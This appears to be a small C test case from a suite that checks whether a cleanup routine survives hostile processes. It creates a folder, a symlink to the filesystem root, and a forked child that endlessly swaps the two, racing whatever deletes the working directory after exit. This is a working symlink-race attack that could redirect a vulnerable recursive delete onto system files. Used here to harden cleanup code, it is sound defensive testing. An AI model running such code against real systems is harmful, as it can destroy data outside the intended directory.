// tries: swap a folder and a link while whoever cleans up walks through
// endings: exited
// levels: every
#include "hostile.h"

int main(int argc, char **argv) {
    mkdir("a", 0700);
    symlink("/", "b");
    if (fork() == 0)
        for (;;) renameat2(AT_FDCWD, "a", AT_FDCWD, "b", RENAME_EXCHANGE);
    usleep(20000);
    return 0;
}
